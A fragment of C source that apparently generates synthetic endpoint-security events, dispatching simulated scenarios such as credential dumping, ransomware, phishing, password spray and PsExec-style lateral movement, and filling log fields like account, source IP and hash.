          "Microsoft Defender for Endpoint", "EDR", "[\"SMB/Windows Admin Shares (T1021.002)\",\"Service Execution (T1569.002)\"]",
          ev, 3);
    key_str(sc, "account", admin->upn);
    key_str(sc, "source_ip", d->ip);
    key_str(sc, "command_line", sc->strs[0]);
    key_str(sc, "sha256", v->procs[p_psexec].sha256);
}

void dm_scen_emit(dm_gen *g, dm_scen *sc)
{
    if (sc->is_emitted)
        return;
    if (sc->type != DM_SC_SPRAY) {
        /* The user may have logged on later in this hour than planned: start after it. */
        const dm_device *d = &g->t->devs[sc->device];
        if (d->has_explorer && d->explorer.created > sc->at - MIN)
            sc->at = d->explorer.created + 2 * MIN;
    }
    switch (sc->type) {
    case DM_SC_ENCODED_PS:
        sc_encoded_ps(g, sc);
        break;
    case DM_SC_CRED_DUMP:
        sc_cred_dump(g, sc);
        break;
    case DM_SC_RANSOMWARE:
        sc_ransomware(g, sc);
        break;
    case DM_SC_PHISHING:
        sc_phishing(g, sc);
        break;
    case DM_SC_SPRAY:
        sc_spray(g, sc);
        break;
    default:
        sc_lateral(g, sc);
        break;
    }
    sc->is_emitted = true;
}
